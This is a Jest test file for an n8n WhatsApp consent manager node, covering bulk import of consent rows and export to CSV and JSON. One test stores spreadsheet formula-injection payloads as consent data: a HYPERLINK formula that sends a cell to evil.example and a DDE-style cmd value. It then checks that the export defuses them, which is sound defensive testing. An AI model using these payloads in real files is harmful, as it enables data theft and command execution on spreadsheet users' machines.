import { NodeOperationError } from 'n8n-workflow';

import { HOUR } from '../../../nodes/core/clock';
import type { ComplianceStore } from '../../../nodes/core/store/types';
import { RECORD_CHUNK } from '../../../nodes/WhatsAppOptInManager/actions/recording';
import {
	CONSENT_COLUMNS,
	HISTORY_COLUMNS,
} from '../../../nodes/WhatsAppOptInManager/actions/bulk/csv';
import { binaryText, contactNo, run, tempStore } from './context';

const T0 = Date.UTC(2025, 5, 1, 8, 0, 0);
const at = (hours: number) => new Date(T0 + hours * HOUR).toISOString();

/** Rows as a CRM export would give them; mapped to the node's fields like expressions would. */
interface Row {
	phone: string;
	purposes?: string;
	status?: string;
	time?: string | number;
	source?: string;
	wording?: string;
	url?: string;
}

function importRows(storePath: string, rows: Row[], continueOnFail = false) {
	return run({
		storePath,
		continueOnFail,
		parameters: { resource: 'bulk', operation: 'import', options: { defaultCountry: 'DE' } },
		items: rows.map((row) => ({ ...row })),
		perItem: (i) => {
			const row = rows[i];
			return {
				contact: row.phone,
				purposes: row.purposes ?? 'marketing',
				status: row.status ?? 'opted_in',
				time: row.time ?? '',
				source: row.source ?? 'import',
				wording: row.wording ?? '',
				evidence: row.url ? { url: row.url } : {},
			};
		},
	});
}

/** RFC 4180 rows (quoted fields with commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let field = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const ch = text[i];
		if (quoted) {
			if (ch === '"' && text[i + 1] === '"') {
				field += '"';
				i++;
			} else if (ch === '"') quoted = false;
			else field += ch;
		} else if (ch === '"') quoted = true;
		else if (ch === ',') {
			row.push(field);
			field = '';
		} else if (ch === '\r' && text[i + 1] === '\n') {
			row.push(field);
			rows.push(row);
			row = [];
			field = '';
			i++;
		} else field += ch;
	}
	return rows;
}

describe('import', () => {
	const store = tempStore();
	let db: ComplianceStore;
	beforeAll(async () => {
		db = await store.open();
	});
	afterAll(async () => {
		await store.cleanUp();
	});

	it('imports mapped rows, counts them, and skips every row of a second run', async () => {
		const a = contactNo(1);
		const b = contactNo(2);
		const rows: Row[] = [
			{
				phone: a.national,
				purposes: 'marketing, back_in_stock',
				time: at(0),
				source: 'web_form',
				wording: 'Offers, please',
				url: 'https://shop.example/a',
			},
			{ phone: b.e164, status: 'pending', time: String((T0 + HOUR) / 1000) },
			{ phone: b.waId, status: 'opted_out', time: T0 + 2 * HOUR },
		];
		const [first] = await importRows(store.path, rows);
		expect(first).toHaveLength(1);
		expect(first[0].pairedItem).toEqual([{ item: 0 }, { item: 1 }, { item: 2 }]);
		expect(first[0].json).toEqual({
			rows: 3,
			events: 4,
			imported: 4,
			notApplied: 0,
			duplicates: 0,
			suppressed: 0,
			failed: 0,
			message: 'Imported 4 consent changes from 3 rows.',
		});
		expect(
			(await db.getConsents([a.waId])).get(a.waId)!.map((r) => [r.purpose, r.status, r.source]),
		).toEqual([
			['back_in_stock', 'opted_in', 'web_form'],
			['marketing', 'opted_in', 'web_form'],
		]);
		expect(
			(await db.getConsentHistory(b.waId)).map((e) => [e.action, new Date(e.at).toISOString()]),
		).toEqual([
			['request_confirmation', at(1)],
			['opt_out', at(2)],
		]);
		expect((await db.getConsentHistory(a.waId))[0]).toMatchObject({
			wording: 'Offers, please',
			evidence: { url: 'https://shop.example/a' },
		});

		const [second] = await importRows(store.path, rows);
		expect(second[0].json).toMatchObject({ imported: 0, duplicates: 4 });
		expect(second[0].json.message).toBe(
			'Imported 0 consent changes from 3 rows. 4 were imported before and skipped.',
		);
	});

	it('reports bad rows one by one with Continue On Fail and imports the rest', async () => {
		const rows: Row[] = [
			{ phone: contactNo(3).e164, time: at(0) },
			{ phone: 'n/a', time: at(0) },
			{ phone: contactNo(4).e164, time: '' },
			{ phone: contactNo(5).e164, status: 'yes', time: at(0) },
			{ phone: contactNo(6).e164, purposes: '*', time: at(0) },
		];
		const [out] = await importRows(store.path, rows, true);
		const errors = out.filter((item) => item.json.error);
		expect(errors.map((item) => item.pairedItem)).toEqual([
			{ item: 1 },
			{ item: 2 },
			{ item: 3 },
			{ item: 4 },
		]);
		expect(errors[1].json.error).toBe('[item 2] Time is empty');
		expect(errors[2].json.error).toBe('[item 3] Status "yes" is not a consent status');
		expect(errors[3].json.error).toBe('[item 4] Purposes: "*" is not a topic');
		const summary = out.find((item) => !item.json.error)!;
		expect(summary.pairedItem).toEqual({ item: 0 });
		expect(summary.json).toMatchObject({ rows: 5, imported: 1, failed: 4 });
		expect(summary.json.message).toMatch(/4 rows failed \(see the error items\)\.$/);
	});

	it('imports nothing when a row is bad and Continue On Fail is off', async () => {
		const good = contactNo(7);
		const attempt = importRows(store.path, [
			{ phone: good.e164, time: at(0) },
			{ phone: contactNo(8).e164, time: 'yesterday' },
		]);
		await expect(attempt).rejects.toBeInstanceOf(NodeOperationError);
		await expect(attempt).rejects.toThrow('[item 1] Time "yesterday" is not a date and time');
		expect((await db.getConsents([good.waId])).get(good.waId)).toEqual([]);
	});

	it('drops rows of erased contacts and counts them', async () => {
		const c = contactNo(9);
		await db.eraseContact(c.waId, T0);
		const [out] = await importRows(store.path, [{ phone: c.e164, time: at(0) }]);
		expect(out[0].json).toMatchObject({ imported: 0, duplicates: 0, suppressed: 1 });
		expect(out[0].json.message).toMatch(/1 belong to erased contacts and were dropped/);
	});

	it(`writes in store calls of ${RECORD_CHUNK} rows and counts rows a newer change overrides`, async () => {
		const rows: Row[] = Array.from({ length: RECORD_CHUNK * 2 + 1 }, (_, i) => ({
			phone: `+49 170 ${String(2000000 + i)}`,
			time: at(0),
		}));
		// The first contact opted out later than the imported opt-in.
		await db.recordConsent([
			{
				contact: '491702000000',
				purpose: 'marketing',
				action: 'opt_out',
				at: T0 + HOUR,
				source: 'whatsapp',
			},
		]);
		const spy = jest.spyOn(db, 'recordConsent');
		try {
			const [out] = await importRows(store.path, rows);
			expect(out[0].json).toMatchObject({ imported: rows.length, notApplied: 1 });
			expect(spy).toHaveBeenCalledTimes(3);
			expect(spy.mock.calls.map(([events]) => events.length)).toEqual([
				RECORD_CHUNK,
				RECORD_CHUNK,
				1,
			]);
		} finally {
			spy.mockRestore();
		}
	});
});

describe('export', () => {
	const store = tempStore();
	const a = contactNo(20);
	const b = contactNo(21);
	beforeAll(async () => {
		await store.open();
		await importRows(store.path, [
			{
				phone: a.e164,
				purposes: 'marketing,transactional',
				time: at(0),
				wording: 'Yes, "offers", and\nnews',
				url: 'https://shop.example/f',
			},
			{ phone: b.e164, time: at(1), source: 'paper' },
			{ phone: b.e164, status: 'opted_out', time: at(2), source: 'whatsapp' },
		]);
	});
	afterAll(async () => {
		await store.cleanUp();
	});

	it('exports all consents as a CSV file with the documented columns', async () => {
		const [out] = await run({
			storePath: store.path,
			parameters: { resource: 'bulk', operation: 'export' },
			items: [{}, {}],
		});
		expect(out).toHaveLength(1);
		expect(out[0].pairedItem).toEqual([{ item: 0 }, { item: 1 }]);
		expect(out[0].json).toMatchObject({ format: 'csv', contacts: 2, consents: 3 });
		expect(out[0].binary!.data).toMatchObject({
			mimeType: 'text/csv',
			fileName: expect.stringMatching(/^whatsapp-consents-\d{4}-\d{2}-\d{2}\.csv$/),
		});
		const rows = parseCsv(binaryText(out[0]));
		expect(rows[0]).toEqual([...CONSENT_COLUMNS]);
		expect(rows.slice(1)).toEqual([
			[a.waId, 'marketing', 'opted_in', at(0), 'import', 'Yes, "offers", and\nnews', at(0), '', ''],
			[
				a.waId,
				'transactional',
				'opted_in',
				at(0),
				'import',
				'Yes, "offers", and\nnews',
				at(0),
				'',
				'',
			],
			[b.waId, 'marketing', 'opted_out', at(2), 'whatsapp', '', at(1), '', at(2)],
		]);
	});

	it('adds the history as a second CSV file', async () => {
		const [out] = await run({
			storePath: store.path,
			parameters: {
				resource: 'bulk',
				operation: 'export',
				includeHistory: true,
				options: { fileName: 'audit.csv' },
			},
		});
		expect(out[0].json).toMatchObject({ historyEvents: 4, fileName: 'audit.csv' });
		expect(out[0].binary!.history.fileName).toBe('audit-history.csv');
		const rows = parseCsv(binaryText(out[0], 'history'));
		expect(rows[0]).toEqual([...HISTORY_COLUMNS]);
		const column = (name: string) =>
			rows.slice(1).map((r) => r[HISTORY_COLUMNS.indexOf(name as never)]);
		expect(column('action')).toEqual(['opt_in', 'opt_in', 'opt_in', 'opt_out']);
		expect(column('evidence_url')).toEqual([
			'https://shop.example/f',
			'https://shop.example/f',
			'',
			'',
		]);
		expect(column('recorded_by')[0]).toBe(
			'n8n workflow "Consent tests" (wf-1), node "Opt-in Manager"',
		);
	});

	it('exports JSON with the history in one file', async () => {
		const [out] = await run({
			storePath: store.path,
			parameters: {
				resource: 'bulk',
				operation: 'export',
				format: 'json',
				includeHistory: true,
				options: { binaryPropertyName: 'audit' },
			},
		});
		expect(out[0].binary!.audit.mimeType).toBe('application/json');
		const document = JSON.parse(binaryText(out[0], 'audit'));
		expect(document).toMatchObject({ backend: 'sqlite', contacts: 2 });
		expect(document.consents).toHaveLength(3);
		expect(document.consents[0]).toEqual({
			contact: a.waId,
			purpose: 'marketing',
			status: 'opted_in',
			changedAt: at(0),
			source: 'import',
			wording: 'Yes, "offers", and\nnews',
			optedInAt: at(0),
		});
		expect(document.history.map((e: { action: string }) => e.action)).toEqual([
			'opt_in',
			'opt_in',
			'opt_in',
			'opt_out',
		]);
	});

	it('defuses formulas in what outsiders typed: wording, evidence and inbound text', async () => {
		const other = tempStore();
		try {
			const db = await other.open();
			const c = contactNo(22);
			await db.recordConsent([
				{
					contact: c.waId,
					purpose: 'marketing',
					action: 'opt_in',
					at: T0,
					source: 'web_form',
					wording: '=HYPERLINK("https://evil.example/?d="&A1,"Confirm")',
					evidence: { userAgent: '@SUM(1+1)*cmd|" /C calc"!A0', note: '+1 555 0100' },
				},
			]);
			const [out] = await run({
				storePath: other.path,
				parameters: { resource: 'bulk', operation: 'export', includeHistory: true },
			});
			const [, consent] = parseCsv(binaryText(out[0]));
			expect(consent[CONSENT_COLUMNS.indexOf('wording')]).toBe(
				`'=HYPERLINK("https://evil.example/?d="&A1,"Confirm")`,
			);
			const [, event] = parseCsv(binaryText(out[0], 'history'));
			const cell = (name: (typeof HISTORY_COLUMNS)[number]) => event[HISTORY_COLUMNS.indexOf(name)];
			expect(cell('wording')).toMatch(/^'=HYPERLINK/);
			expect(cell('evidence_user_agent')).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
			expect(cell('evidence_note')).toBe(`'+1 555 0100`);
			expect(cell('contact')).toBe(c.waId);
		} finally {
			await other.cleanUp();
		}
	});

	it('pages through more consents than one store page holds, reading histories a page at a time', async () => {
		const big = tempStore();
		try {
			const db = await big.open();
			const rows: Row[] = Array.from({ length: 5200 }, (_, i) => ({
				phone: `+49 170 ${String(3000000 + i)}`,
				time: at(0),
			}));
			await importRows(big.path, rows);
			const one = jest.spyOn(db, 'getConsentHistory');
			const many = jest.spyOn(db, 'getConsentHistories');
			try {
				const [out] = await run({
					storePath: big.path,
					parameters: { resource: 'bulk', operation: 'export', includeHistory: true },
				});
				expect(out[0].json).toMatchObject({ contacts: 5200, consents: 5200, historyEvents: 5200 });
				const lines = parseCsv(binaryText(out[0]));
				expect(lines).toHaveLength(5201);
				expect(new Set(lines.slice(1).map((r) => r[0])).size).toBe(5200);
				expect(parseCsv(binaryText(out[0], 'history'))).toHaveLength(5201);
				expect(one).not.toHaveBeenCalled();
				expect(many.mock.calls.map(([contacts]) => contacts.length)).toEqual([5000, 200]);
			} finally {
				one.mockRestore();
				many.mockRestore();
			}
		} finally {
			await big.cleanUp();
		}
	});

	it('reads the history of a contact whose purposes span two store pages once', async () => {
		const edge = tempStore();
		try {
			const db = await edge.open();
			// 4999 contacts with one purpose, then one with two: its second purpose is on page two.
			await db.recordConsent(
				Array.from({ length: 5000 }, (_, i) => ({
					contact: `4917040${String(i).padStart(5, '0')}`,
					purpose: 'marketing',
					action: 'opt_in' as const,
					at: T0,
					source: 'import',
				})).concat([
					{
						contact: '491704004999',
						purpose: 'transactional',
						action: 'opt_in' as const,
						at: T0,
						source: 'import',
					},
				]),
			);
			const [out] = await run({
				storePath: edge.path,
				parameters: { resource: 'bulk', operation: 'export', format: 'json', includeHistory: true },
			});
			const document = JSON.parse(binaryText(out[0]));
			expect(document).toMatchObject({ contacts: 5000 });
			expect(document.consents).toHaveLength(5001);
			expect(document.history).toHaveLength(5001);
			expect(out[0].json).toMatchObject({ contacts: 5000, consents: 5001, historyEvents: 5001 });
		} finally {
			await edge.cleanUp();
		}
	});
});
